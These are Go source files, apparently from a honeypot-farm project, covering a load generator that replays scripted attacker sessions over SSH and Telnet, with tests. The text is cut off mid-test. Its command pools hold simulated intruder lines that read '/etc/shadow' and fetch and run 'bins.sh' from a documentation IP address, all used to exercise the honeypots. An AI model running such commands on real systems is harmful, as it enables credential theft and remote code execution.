// completions: a slow target does not slow the offered load down, it
// shows up as schedule slip (sessions starting late) and as a gap
// between offered and achieved rate. That is the property that makes
// the harness usable for capacity measurement — a closed loop would
// self-throttle and hide saturation.
//
// The plan is pure data and byte-reproducible: the same seed, rate,
// duration, and target list always produce the same arrivals, the same
// scripts, and the same plan digest, on any machine. Only the Driver
// (driver.go) touches the wall clock, through an injected Now/Sleep
// pair.
package loadgen

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/workload"
)

// Target is one attackable pot: its ID and bound wire addresses.
type Target struct {
	Pot        int
	SSHAddr    string
	TelnetAddr string
}

// Script is one planned session: what the wire client will do once its
// arrival fires.
type Script struct {
	// Category is the paper taxonomy class the session enacts.
	Category analysis.Category
	// SSH selects the protocol (false = Telnet).
	SSH bool
	// User/Password are the login credentials for categories that log
	// in. The honeypot accepts root with any password except "root".
	User, Password string
	// FailedAttempts is the number of doomed root/root attempts a
	// FAIL_LOG session makes before giving up.
	FailedAttempts int
	// Commands are the shell lines a CMD/CMD+URI session types.
	Commands []string
}

// Arrival is one scheduled session: when it starts, which target it
// hits, and what it does.
type Arrival struct {
	// At is the offset from run start.
	At time.Duration
	// Target indexes the plan's target list.
	Target int
	Script Script
}

// PlanConfig parameterizes plan derivation.
type PlanConfig struct {
	// Seed drives every random choice in the plan.
	Seed int64
	// Rate is the offered load in sessions per second. Must be > 0.
	Rate float64
	// Duration is the arrival window. Must be > 0.
	Duration time.Duration
	// Targets are the attackable pots. Must be non-empty.
	Targets []Target
}

// Plan is a derived arrival schedule.
type Plan struct {
	Seed     int64
	Rate     float64
	Duration time.Duration
	Targets  []Target
	Arrivals []Arrival
}

// mix derives an uncorrelated stream seed from the root seed with the
// same splitmix64 finalizer the workload generator uses for its shards.
func mix(seed int64, stream int) int64 {
	z := uint64(seed) + 0x9e3779b97f4a7c15*(uint64(stream)+1)
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return int64(z ^ (z >> 31))
}

// cmdPool is the deterministic command repertoire of CMD sessions,
// mirroring the intruder command classes of the record-level workload
// (recon, credential theft, download) without importing its private
// tables.
var cmdPool = [][]string{
	{"uname -a", "cat /proc/cpuinfo", "free -m"},
	{"cat /etc/passwd", "cat /etc/shadow"},
	{"ps aux", "ls -la /tmp", "w"},
	{"echo -e '\\x47\\x72\\x6f\\x70'", "uname -m"},
}

// uriCommands is the CMD+URI repertoire: a download attempt plus
// execution, against an unroutable documentation address (the harness
// never wants real egress).
var uriCommands = []string{
	"wget http://203.0.113.9/bins.sh",
	"chmod +x bins.sh",
	"./bins.sh",
}

// BuildPlan derives the arrival schedule. It is deterministic: equal
// configs yield byte-identical plans.
func BuildPlan(cfg PlanConfig) (*Plan, error) {
	if cfg.Rate <= 0 {
		return nil, fmt.Errorf("loadgen: Rate must be > 0 (got %g)", cfg.Rate)
	}
	if cfg.Duration <= 0 {
		return nil, fmt.Errorf("loadgen: Duration must be > 0 (got %s)", cfg.Duration)
	}
	if len(cfg.Targets) == 0 {
		return nil, fmt.Errorf("loadgen: at least one target is required")
	}
	// Separate streams per concern: adding a choice to scripts cannot
	// shift the arrival times, and vice versa.
	arrivalRng := rand.New(rand.NewSource(mix(cfg.Seed, 0)))
	scriptRng := rand.New(rand.NewSource(mix(cfg.Seed, 1)))
	targetRng := rand.New(rand.NewSource(mix(cfg.Seed, 2)))

	p := &Plan{
		Seed:     cfg.Seed,
		Rate:     cfg.Rate,
		Duration: cfg.Duration,
		Targets:  append([]Target(nil), cfg.Targets...),
	}
	// The expected arrival count is Rate·Duration; the cap leaves room
	// for Poisson overshoot while bounding the loop deterministically.
	maxArrivals := int(cfg.Rate*cfg.Duration.Seconds()*4) + 1024
	at := time.Duration(0)
	for i := 0; i < maxArrivals; i++ {
		// Exponential inter-arrival at the target rate: a Poisson
		// arrival process, the open-loop standard.
		at += time.Duration(arrivalRng.ExpFloat64() / cfg.Rate * float64(time.Second))
		if at >= cfg.Duration {
			break
		}
		p.Arrivals = append(p.Arrivals, Arrival{
			At:     at,
			Target: targetRng.Intn(len(cfg.Targets)),
			Script: buildScript(scriptRng),
		})
	}
	return p, nil
}

// buildScript draws one session script from the paper's category and
// protocol mix.
func buildScript(rng *rand.Rand) Script {
	cat := sampleCategory(rng)
	s := Script{
		Category: cat,
		SSH:      rng.Float64() < workload.SSHShare[cat],
	}
	switch cat {
	case analysis.NoCred:
		// Handshake only; no credentials.
	case analysis.FailLog:
		s.FailedAttempts = 1 + rng.Intn(3)
	default:
		s.User = "root"
		s.Password = fmt.Sprintf("pw%d", rng.Intn(10000))
		if s.Password == "root" { // unreachable, but keep the invariant local
			s.Password = "hunter2"
		}
		switch cat {
		case analysis.Cmd:
			s.Commands = cmdPool[rng.Intn(len(cmdPool))]
		case analysis.CmdURI:
			s.Commands = uriCommands
		}
	}
	return s
}

// sampleCategory draws from workload.CategoryShare.
func sampleCategory(rng *rand.Rand) analysis.Category {
	u := rng.Float64()
	acc := 0.0
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		acc += workload.CategoryShare[c]
		if u < acc {
			return c
		}
	}
	return analysis.Category(analysis.NumCategories - 1)
}

// Digest is a stable hash over every schedule-determining field of the
// plan — arrival times, target pots, scripts. Wire addresses are
// deliberately excluded: ephemeral ports change across fleet restarts,
// the offered load does not. Two runs with equal digests offered
// identical load.
func (p *Plan) Digest() string {
	h := sha256.New()
	w := func(v uint64) {
		var b [8]byte
		binary.LittleEndian.PutUint64(b[:], v)
		h.Write(b[:])
	}
	w(uint64(p.Seed))
	w(uint64(p.Rate * 1e6))
	w(uint64(p.Duration))
	for _, t := range p.Targets {
		w(uint64(t.Pot))
	}
	for _, a := range p.Arrivals {
		w(uint64(a.At))
		w(uint64(a.Target))
		w(uint64(a.Script.Category))
		if a.Script.SSH {
			w(1)
		} else {
			w(0)
		}
		h.Write([]byte(a.Script.User))
		h.Write([]byte{0})
		h.Write([]byte(a.Script.Password))
		h.Write([]byte{0})
		w(uint64(a.Script.FailedAttempts))
		for _, c := range a.Script.Commands {
			h.Write([]byte(c))
			h.Write([]byte{0})
		}
	}
	return hex.EncodeToString(h.Sum(nil))
}
