package loadgen

// Report rendering: the run's JSON summary and the plan-only summary.
// Plan-only output is fully deterministic (the check.sh gate compares
// two same-seed emissions byte for byte); the live report embeds the
// same plan digest so any two runs can be proven to have offered
// identical load even though their measured latencies differ.

import (
	"bytes"
	"encoding/json"
	"strconv"

	"honeyfarm/internal/analysis"
)

// Report is the harness's JSON output for a live run.
type Report struct {
	Seed            int64   `json:"seed"`
	PlanSHA256      string  `json:"plan_sha256"`
	OfferedRate     float64 `json:"offered_rate"`
	DurationSeconds float64 `json:"duration_seconds"`
	Planned         int     `json:"planned_sessions"`
	Started         int     `json:"started_sessions"`
	Completed       int     `json:"completed_sessions"`
	// AchievedRate is completed sessions over the measured wall time
	// (first scheduled instant to last completion).
	AchievedRate   float64            `json:"achieved_rate"`
	ElapsedSeconds float64            `json:"elapsed_seconds"`
	Errors         map[string]int     `json:"errors"`
	LatencySeconds map[string]float64 `json:"latency_seconds"`
	// SlipSeconds quantifies open-loop lateness: how far past its
	// scheduled instant each session actually started.
	SlipSeconds    map[string]float64 `json:"slip_seconds"`
	MaxSlipSeconds float64            `json:"max_slip_seconds"`
}

// BuildReport summarizes a run result.
func BuildReport(res *Result) *Report {
	r := &Report{
		Seed:            res.Plan.Seed,
		PlanSHA256:      res.Plan.Digest(),
		OfferedRate:     res.Plan.Rate,
		DurationSeconds: res.Plan.Duration.Seconds(),
		Planned:         len(res.Plan.Arrivals),
		Started:         res.Started,
		Completed:       res.Completed,
		ElapsedSeconds:  res.Elapsed.Seconds(),
		Errors:          res.Errors,
		LatencySeconds:  quantiles(res.latencies),
		SlipSeconds:     quantiles(res.slips),
	}
	if res.Elapsed > 0 {
		r.AchievedRate = float64(res.Completed) / res.Elapsed.Seconds()
	}
	if res.slips.Len() > 0 {
		r.MaxSlipSeconds = res.slips.Quantile(1)
	}
	return r
}

// PlanSummary is the deterministic plan-only output: everything about
// the offered load, nothing about a live run.
type PlanSummary struct {
	Seed            int64          `json:"seed"`
	PlanSHA256      string         `json:"plan_sha256"`
	OfferedRate     float64        `json:"offered_rate"`
	DurationSeconds float64        `json:"duration_seconds"`
	Sessions        int            `json:"sessions"`
	ByCategory      map[string]int `json:"by_category"`
	ByProtocol      map[string]int `json:"by_protocol"`
	ByPot           map[string]int `json:"by_pot"`
	FirstAtSeconds  float64        `json:"first_at_seconds"`
	LastAtSeconds   float64        `json:"last_at_seconds"`
}

// Summarize reduces a plan to its deterministic summary.
func Summarize(p *Plan) *PlanSummary {
	s := &PlanSummary{
		Seed:            p.Seed,
		PlanSHA256:      p.Digest(),
		OfferedRate:     p.Rate,
		DurationSeconds: p.Duration.Seconds(),
		Sessions:        len(p.Arrivals),
		ByCategory:      map[string]int{},
		ByProtocol:      map[string]int{"ssh": 0, "telnet": 0},
		ByPot:           map[string]int{},
	}
	for c := analysis.Category(0); c < analysis.NumCategories; c++ {
		s.ByCategory[c.String()] = 0
	}
	for i, a := range p.Arrivals {
		s.ByCategory[a.Script.Category.String()]++
		if a.Script.SSH {
			s.ByProtocol["ssh"]++
		} else {
			s.ByProtocol["telnet"]++
		}
		s.ByPot[strconv.Itoa(p.Targets[a.Target].Pot)]++
		at := a.At.Seconds()
		if i == 0 {
			s.FirstAtSeconds = at
		}
		if at > s.LastAtSeconds {
			s.LastAtSeconds = at
		}
	}
	return s
}

// MarshalIndent renders any report shape as stable, human-diffable
// JSON (sorted keys — encoding/json sorts map keys — trailing
// newline).
func MarshalIndent(v any) ([]byte, error) {
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetIndent("", "  ")
	if err := enc.Encode(v); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}
