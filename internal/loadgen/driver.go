package loadgen

// The open-loop driver: fires the plan's arrivals on the injected
// clock, executes each session script over a real connection, and
// classifies every failure. The driver never touches time.Now or
// time.Sleep directly — the clock comes in through Config, which keeps
// this package on the repo's determinism lint list and lets tests run
// the whole loop on a fake clock.

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sort"
	"strings"
	"sync"
	"time"

	"honeyfarm/internal/analysis"
	"honeyfarm/internal/sshwire"
	"honeyfarm/internal/stats"
	"honeyfarm/internal/telnet"
)

// Error taxonomy buckets. Every failed session lands in exactly one.
const (
	ErrDial     = "dial"     // connection could not be established
	ErrReset    = "reset"    // established connection torn down mid-session
	ErrTimeout  = "timeout"  // an i/o or dial deadline expired
	ErrProtocol = "protocol" // the peer answered, but not the way the script expected
)

// Dialer opens the wire connection for one arrival. ssh selects which
// of the target's two addresses to dial.
type Dialer func(t Target, ssh bool) (net.Conn, error)

// Config parameterizes a driver run.
type Config struct {
	Plan *Plan
	// Dial opens connections; required. TCPDialer covers the real-TCP
	// case.
	Dial Dialer
	// Concurrency bounds simultaneously open sessions (default 64). An
	// arrival whose slot is not free still fires on time once one
	// frees — the wait is visible as schedule slip, not as a rate cut.
	Concurrency int
	// Now and Sleep are the clock; both required. Injected so the
	// schedule math stays deterministic under test.
	Now   func() time.Time
	Sleep func(d time.Duration)
	// SessionTimeout caps one session's wall time via the connection
	// deadline (default 10s).
	SessionTimeout time.Duration
}

// sessionOutcome is one executed arrival's measurement.
type sessionOutcome struct {
	ok      bool
	errKind string
	latency float64 // seconds, completed sessions only
	slip    float64 // seconds late past scheduled start
}

// Result is the raw run outcome Report is built from.
type Result struct {
	Plan      *Plan
	Started   int
	Completed int
	Errors    map[string]int

	latencies *stats.ECDF
	slips     *stats.ECDF

	// Elapsed is the wall time from first scheduled instant to last
	// session completion.
	Elapsed time.Duration
}

// Run executes the plan. It returns when every arrival has been fired
// and every session has finished.
func Run(cfg Config) (*Result, error) {
	if cfg.Plan == nil || cfg.Dial == nil {
		return nil, fmt.Errorf("loadgen: Plan and Dial are required")
	}
	if cfg.Now == nil || cfg.Sleep == nil {
		return nil, fmt.Errorf("loadgen: Now and Sleep are required (inject the clock)")
	}
	conc := cfg.Concurrency
	if conc <= 0 {
		conc = 64
	}
	timeout := cfg.SessionTimeout
	if timeout <= 0 {
		timeout = 10 * time.Second
	}

	var (
		mu       sync.Mutex
		wg       sync.WaitGroup
		sem      = make(chan struct{}, conc)
		outcomes = make([]sessionOutcome, 0, len(cfg.Plan.Arrivals))
	)
	start := cfg.Now()
	for _, a := range cfg.Plan.Arrivals {
		// Open loop: wait for the scheduled instant, not for a free
		// slot. The slot wait after this point is schedule slip.
		if d := start.Add(a.At).Sub(cfg.Now()); d > 0 {
			cfg.Sleep(d)
		}
		sem <- struct{}{}
		wg.Add(1)
		go func(a Arrival) {
			defer wg.Done()
			defer func() { <-sem }()
			t0 := cfg.Now()
			out := sessionOutcome{slip: t0.Sub(start.Add(a.At)).Seconds()}
			if out.slip < 0 {
				out.slip = 0
			}
			err := runSession(cfg.Plan.Targets[a.Target], a.Script, cfg.Dial, t0.Add(timeout))
			if err != nil {
				out.errKind = classify(err)
			} else {
				out.ok = true
				out.latency = cfg.Now().Sub(t0).Seconds()
			}
			mu.Lock()
			outcomes = append(outcomes, out)
			mu.Unlock()
		}(a)
	}
	wg.Wait()
	elapsed := cfg.Now().Sub(start)

	res := &Result{
		Plan:      cfg.Plan,
		Started:   len(outcomes),
		Errors:    map[string]int{},
		latencies: stats.NewECDF(nil),
		slips:     stats.NewECDF(nil),
		Elapsed:   elapsed,
	}
	for _, o := range outcomes {
		res.slips.Add(o.slip)
		if o.ok {
			res.Completed++
			res.latencies.Add(o.latency)
		} else {
			res.Errors[o.errKind]++
		}
	}
	res.latencies.Sort()
	res.slips.Sort()
	return res, nil
}

// TCPDialer dials the target's real-TCP wire address with the given
// per-dial timeout.
func TCPDialer(timeout time.Duration) Dialer {
	return func(t Target, ssh bool) (net.Conn, error) {
		addr := t.SSHAddr
		if !ssh {
			addr = t.TelnetAddr
		}
		return net.DialTimeout("tcp", addr, timeout)
	}
}

// runSession drives one scripted session to completion. deadline is
// computed from the injected clock, so a real run bounds the socket
// with real wall time and a fake-clock test controls it the same way
// it controls the schedule.
func runSession(t Target, s Script, dial Dialer, deadline time.Time) error {
	nc, err := dial(t, s.SSH)
	if err != nil {
		return &dialError{err}
	}
	defer nc.Close()
	nc.SetDeadline(deadline)
	if s.SSH {
		return runSSH(nc, s)
	}
	return runTelnet(nc, s)
}

func runSSH(nc net.Conn, s Script) error {
	switch s.Category {
	case analysis.NoCred:
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true, Version: "SSH-2.0-loadgen"})
		if err != nil {
			return err
		}
		return cc.Close()
	case analysis.FailLog:
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{SkipAuth: true, Version: "SSH-2.0-loadgen"})
		if err != nil {
			return err
		}
		defer cc.Close()
		for i := 0; i < s.FailedAttempts; i++ {
			// root/root is the one password CowrieAuth always rejects.
			if _, err := cc.TryPasswords("root", []string{"root"}); err != nil {
				// Three-strike disconnect ends the session by design.
				return nil
			}
		}
		return nil
	default:
		cc, err := sshwire.NewClientConn(nc, &sshwire.ClientConfig{User: s.User, Password: s.Password, Version: "SSH-2.0-loadgen"})
		if err != nil {
			return err
		}
		defer cc.Close()
		sess, err := cc.OpenSession()
		if err != nil {
			return err
		}
		if err := sshwire.RequestShell(sess); err != nil {
			return err
		}
		if len(s.Commands) == 0 {
			return sess.Close()
		}
		writeDone := make(chan struct{})
		go func() {
			defer close(writeDone)
			for _, c := range append(append([]string(nil), s.Commands...), "exit") {
				if _, err := sess.Write([]byte(c + "\n")); err != nil {
					return
				}
			}
		}()
		_, err = io.Copy(io.Discard, sess)
		<-writeDone
		if err != nil && !sshwire.IsGracefulDisconnect(err) {
			return err
		}
		return nil
	}
}

func runTelnet(nc net.Conn, s Script) error {
	c := telnet.NewConn(nc, false)
	switch s.Category {
	case analysis.NoCred:
		buf := make([]byte, 64)
		if _, err := nc.Read(buf); err != nil && err != io.EOF {
			return err
		}
		return nil
	case analysis.FailLog:
		for i := 0; i < s.FailedAttempts; i++ {
			ok, err := telnet.ClientLogin(c, "root", "root")
			if err != nil {
				return nil // server hung up on the strikes, as recorded sessions do
			}
			if ok {
				return fmt.Errorf("loadgen: root/root accepted")
			}
		}
		return nil
	default:
		ok, err := telnet.ClientLogin(c, s.User, s.Password)
		if err != nil {
			return err
		}
		if !ok {
			return fmt.Errorf("loadgen: login rejected for %s", s.User)
		}
		for _, cmd := range s.Commands {
			if err := c.WriteString(cmd + "\r\n"); err != nil {
				return nil
			}
		}
		return c.WriteString("exit\r\n")
	}
}

// dialError wraps a connection-establishment failure so classify can
// separate it from mid-session errors with the same underlying cause.
type dialError struct{ err error }

func (e *dialError) Error() string { return "dial: " + e.err.Error() }
func (e *dialError) Unwrap() error { return e.err }

// classify maps an error into the taxonomy. Order matters: a dial
// timeout is a dial error first.
func classify(err error) string {
	var de *dialError
	if errors.As(err, &de) {
		return ErrDial
	}
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() || errors.Is(err, os.ErrDeadlineExceeded) {
		return ErrTimeout
	}
	msg := err.Error()
	if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) ||
		errors.Is(err, net.ErrClosed) ||
		strings.Contains(msg, "connection reset") ||
		strings.Contains(msg, "broken pipe") {
		return ErrReset
	}
	return ErrProtocol
}

// quantiles renders an ECDF's p50/p90/p99 with a stable key order for
// the report; an empty ECDF renders zeros (JSON cannot carry NaN).
func quantiles(e *stats.ECDF) map[string]float64 {
	out := map[string]float64{"p50": 0, "p90": 0, "p99": 0}
	if e.Len() == 0 {
		return out
	}
	for _, q := range []struct {
		k string
		p float64
	}{{"p50", 0.50}, {"p90", 0.90}, {"p99", 0.99}} {
		out[q.k] = e.Quantile(q.p)
	}
	return out
}

// sortedKeys returns m's keys in lexical order (stable report output).
func sortedKeys(m map[string]int) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
