package loadgen

// The reconciliation side of the harness: after a run, the generator's
// own accepted count is cross-checked against the fleet's /metrics —
// the sum of honeyfarm_wire_sessions_accepted_total across every
// target node must equal the sessions the generator completed. This is
// the end-to-end count proof: a session the client finished but the
// fleet never persisted (or double-counted) shows up as a mismatch.

import (
	"bufio"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"time"
)

// ScrapeCounter fetches a /metrics URL and returns the summed value of
// the named metric family (all label children included).
func ScrapeCounter(client *http.Client, url, name string) (float64, error) {
	resp, err := client.Get(url)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return 0, fmt.Errorf("loadgen: %s: status %d", url, resp.StatusCode)
	}
	total := 0.0
	found := false
	sc := bufio.NewScanner(resp.Body)
	for sc.Scan() {
		line := sc.Text()
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		if !strings.HasPrefix(line, name) {
			continue
		}
		rest := line[len(name):]
		// Exact family match: next byte is a space (no labels) or '{'.
		if rest == "" || (rest[0] != ' ' && rest[0] != '{') {
			continue
		}
		sp := strings.LastIndexByte(rest, ' ')
		if sp < 0 {
			continue
		}
		v, err := strconv.ParseFloat(rest[sp+1:], 64)
		if err != nil {
			return 0, fmt.Errorf("loadgen: %s: bad sample %q: %v", url, line, err)
		}
		total += v
		found = true
	}
	if err := sc.Err(); err != nil {
		return 0, err
	}
	if !found {
		return 0, fmt.Errorf("loadgen: %s: metric %s not found", url, name)
	}
	return total, nil
}

// CheckResult is the reconciliation outcome.
type CheckResult struct {
	Metric string  `json:"metric"`
	Want   float64 `json:"want"`
	Got    float64 `json:"got"`
	Match  bool    `json:"match"`
}

// Reconcile polls the metric across all URLs until the summed value
// reaches want or the deadline passes (records can trail the wire by a
// group-commit interval). sleep is the injected poll pacer.
func Reconcile(urls []string, name string, want float64, attempts int, sleep func(time.Duration)) (CheckResult, error) {
	client := &http.Client{Timeout: 5 * time.Second}
	res := CheckResult{Metric: name, Want: want}
	for i := 0; i < attempts; i++ {
		if i > 0 && sleep != nil {
			sleep(100 * time.Millisecond)
		}
		total := 0.0
		ok := true
		for _, u := range urls {
			v, err := ScrapeCounter(client, u, name)
			if err != nil {
				if i == attempts-1 {
					return res, err
				}
				ok = false
				break
			}
			total += v
		}
		if !ok {
			continue
		}
		res.Got = total
		if total == want {
			res.Match = true
			return res, nil
		}
		// Overshoot can never reconcile; stop polling early.
		if total > want {
			return res, nil
		}
	}
	return res, nil
}
