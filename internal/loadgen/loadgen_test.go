package loadgen

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"sync"
	"testing"
	"time"
)

func testTargets(n int) []Target {
	ts := make([]Target, n)
	for i := range ts {
		ts[i] = Target{Pot: i * 2, SSHAddr: fmt.Sprintf("127.0.0.1:%d", 10000+i), TelnetAddr: fmt.Sprintf("127.0.0.1:%d", 20000+i)}
	}
	return ts
}

func TestPlanDeterminism(t *testing.T) {
	cfg := PlanConfig{Seed: 42, Rate: 100, Duration: 5 * time.Second, Targets: testTargets(3)}
	p1, err := BuildPlan(cfg)
	if err != nil {
		t.Fatal(err)
	}
	p2, err := BuildPlan(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if p1.Digest() != p2.Digest() {
		t.Fatal("same config produced different plan digests")
	}
	s1, err := MarshalIndent(Summarize(p1))
	if err != nil {
		t.Fatal(err)
	}
	s2, err := MarshalIndent(Summarize(p2))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(s1, s2) {
		t.Fatal("same config produced different plan summaries")
	}

	cfg.Seed = 43
	p3, err := BuildPlan(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if p3.Digest() == p1.Digest() {
		t.Fatal("different seeds produced identical plans")
	}
}

func TestPlanMix(t *testing.T) {
	p, err := BuildPlan(PlanConfig{Seed: 7, Rate: 2000, Duration: 5 * time.Second, Targets: testTargets(4)})
	if err != nil {
		t.Fatal(err)
	}
	n := len(p.Arrivals)
	// Poisson with mean 10000: stay within ±10%.
	if n < 9000 || n > 11000 {
		t.Fatalf("arrival count %d far from expectation 10000", n)
	}
	s := Summarize(p)
	// Table 1's dominant class is FAIL_LOG at 42%.
	if frac := float64(s.ByCategory["FAIL_LOG"]) / float64(n); frac < 0.38 || frac > 0.46 {
		t.Errorf("FAIL_LOG fraction %.3f outside [0.38, 0.46]", frac)
	}
	if s.ByProtocol["ssh"] == 0 || s.ByProtocol["telnet"] == 0 {
		t.Error("expected both protocols in the mix")
	}
	if len(s.ByPot) != 4 {
		t.Errorf("expected all 4 pots targeted, got %d", len(s.ByPot))
	}
	// Arrivals are sorted and inside the window by construction.
	last := time.Duration(-1)
	for _, a := range p.Arrivals {
		if a.At <= last {
			t.Fatal("arrivals not strictly increasing")
		}
		if a.At >= p.Duration {
			t.Fatal("arrival past the window")
		}
		last = a.At
	}
}

func TestPlanValidation(t *testing.T) {
	if _, err := BuildPlan(PlanConfig{Rate: 0, Duration: time.Second, Targets: testTargets(1)}); err == nil {
		t.Error("zero rate accepted")
	}
	if _, err := BuildPlan(PlanConfig{Rate: 1, Duration: 0, Targets: testTargets(1)}); err == nil {
		t.Error("zero duration accepted")
	}
	if _, err := BuildPlan(PlanConfig{Rate: 1, Duration: time.Second}); err == nil {
		t.Error("no targets accepted")
	}
}

// fakeClock is a virtual clock: Sleep advances it instantly.
type fakeClock struct {
	mu  sync.Mutex
	now time.Time
}

func (c *fakeClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

func (c *fakeClock) Sleep(d time.Duration) {
	c.mu.Lock()
	c.now = c.now.Add(d)
	c.mu.Unlock()
}

func TestDriverErrorTaxonomy(t *testing.T) {
	plan, err := BuildPlan(PlanConfig{Seed: 3, Rate: 50, Duration: time.Second, Targets: testTargets(2)})
	if err != nil {
		t.Fatal(err)
	}
	clock := &fakeClock{now: time.Unix(1_700_000_000, 0)}
	res, err := Run(Config{
		Plan: plan,
		Dial: func(Target, bool) (net.Conn, error) {
			return nil, errors.New("connection refused")
		},
		Now:   clock.Now,
		Sleep: clock.Sleep,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Started != len(plan.Arrivals) {
		t.Fatalf("started %d of %d arrivals", res.Started, len(plan.Arrivals))
	}
	if res.Completed != 0 {
		t.Fatalf("completed %d sessions against a refusing dialer", res.Completed)
	}
	if res.Errors[ErrDial] != len(plan.Arrivals) {
		t.Fatalf("dial errors = %v, want all %d in %q", res.Errors, len(plan.Arrivals), ErrDial)
	}
	rep := BuildReport(res)
	if rep.PlanSHA256 != plan.Digest() {
		t.Fatal("report digest mismatch")
	}
	if rep.LatencySeconds["p99"] != 0 {
		t.Fatal("latency quantiles should be zero with no completions")
	}
	if _, err := MarshalIndent(rep); err != nil {
		t.Fatalf("report not JSON-marshalable: %v", err)
	}
}

func TestClassify(t *testing.T) {
	cases := []struct {
		err  error
		want string
	}{
		{&dialError{errors.New("refused")}, ErrDial},
		{os.ErrDeadlineExceeded, ErrTimeout},
		{io.EOF, ErrReset},
		{io.ErrUnexpectedEOF, ErrReset},
		{net.ErrClosed, ErrReset},
		{errors.New("read tcp: connection reset by peer"), ErrReset},
		{errors.New("ssh: unexpected packet"), ErrProtocol},
	}
	for _, c := range cases {
		if got := classify(c.err); got != c.want {
			t.Errorf("classify(%v) = %s, want %s", c.err, got, c.want)
		}
	}
}

func TestScrapeAndReconcile(t *testing.T) {
	body := "# HELP honeyfarm_wire_sessions_accepted_total x\n" +
		"# TYPE honeyfarm_wire_sessions_accepted_total counter\n" +
		"honeyfarm_wire_sessions_accepted_total 7\n" +
		"honeyfarm_wire_pot_sessions_total{pot=\"0\"} 4\n" +
		"honeyfarm_wire_pot_sessions_total{pot=\"2\"} 3\n"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, body)
	}))
	defer srv.Close()

	v, err := ScrapeCounter(srv.Client(), srv.URL, "honeyfarm_wire_sessions_accepted_total")
	if err != nil {
		t.Fatal(err)
	}
	if v != 7 {
		t.Fatalf("scraped %g, want 7", v)
	}
	// Labeled children sum across the family.
	v, err = ScrapeCounter(srv.Client(), srv.URL, "honeyfarm_wire_pot_sessions_total")
	if err != nil {
		t.Fatal(err)
	}
	if v != 7 {
		t.Fatalf("summed %g, want 7", v)
	}
	// A prefix of another family must not match.
	if _, err := ScrapeCounter(srv.Client(), srv.URL, "honeyfarm_wire_pot_sessions"); err == nil {
		t.Fatal("prefix matched a longer family name")
	}

	res, err := Reconcile([]string{srv.URL, srv.URL}, "honeyfarm_wire_sessions_accepted_total", 14, 3, func(time.Duration) {})
	if err != nil {
		t.Fatal(err)
	}
	if !res.Match || res.Got != 14 {
		t.Fatalf("reconcile = %+v, want match at 14", res)
	}
	res, err = Reconcile([]string{srv.URL}, "honeyfarm_wire_sessions_accepted_total", 8, 2, func(time.Duration) {})
	if err != nil {
		t.Fatal(err)
	}
	if res.Match {
		t.Fatal("reconcile matched a short count")
	}
}
