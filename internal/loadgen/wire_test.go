package loadgen

// End-to-end: the open-loop driver against a live wire front over real
// TCP, with the count reconciliation the check.sh gate scripts —
// loadgen's completed count must equal the collector's accepted count
// and the engine's ingested sequence.

import (
	"net/http/httptest"
	"testing"
	"time"

	"honeyfarm"
	"honeyfarm/internal/query"
	"honeyfarm/internal/shard"
)

func TestDriverAgainstWireFront(t *testing.T) {
	eng := query.New(query.Config{Epoch: honeyfarm.DefaultEpoch, NumPots: 4})
	front, err := shard.NewWireFront(shard.WireConfig{
		Shards: 1, Index: 0, NumPots: 4, Engine: eng,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer front.Close()

	targets := make([]Target, 0, 4)
	for _, p := range front.Pots() {
		targets = append(targets, Target{Pot: p.ID, SSHAddr: p.SSHAddr, TelnetAddr: p.TelnetAddr})
	}
	plan, err := BuildPlan(PlanConfig{Seed: 11, Rate: 60, Duration: 1 * time.Second, Targets: targets})
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(Config{
		Plan:        plan,
		Dial:        TCPDialer(5 * time.Second),
		Concurrency: 16,
		Now:         time.Now,
		Sleep:       time.Sleep,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Completed != len(plan.Arrivals) || len(res.Errors) != 0 {
		t.Fatalf("completed %d/%d, errors %v", res.Completed, len(plan.Arrivals), res.Errors)
	}

	// The fleet must have persisted exactly what the generator drove:
	// records can trail the last wire byte briefly, so poll.
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) && front.Accepted() != uint64(res.Completed) {
		time.Sleep(10 * time.Millisecond)
	}
	if front.Accepted() != uint64(res.Completed) {
		t.Fatalf("front accepted %d, loadgen completed %d", front.Accepted(), res.Completed)
	}
	if eng.Seq() != uint64(res.Completed) {
		t.Fatalf("engine seq %d, loadgen completed %d", eng.Seq(), res.Completed)
	}

	// Reconcile through the real /metrics surface, as the gate does.
	srv := query.NewServer(query.ServerConfig{Source: eng})
	reg := shard.BuildCollectorRegistry(eng, nil, front, srv, 4)
	ms := httptest.NewServer(reg.Handler())
	defer ms.Close()
	check, err := Reconcile([]string{ms.URL}, "honeyfarm_wire_sessions_accepted_total",
		float64(res.Completed), 10, time.Sleep)
	if err != nil {
		t.Fatal(err)
	}
	if !check.Match {
		t.Fatalf("reconciliation failed: %+v", check)
	}

	rep := BuildReport(res)
	if rep.AchievedRate <= 0 || rep.PlanSHA256 == "" {
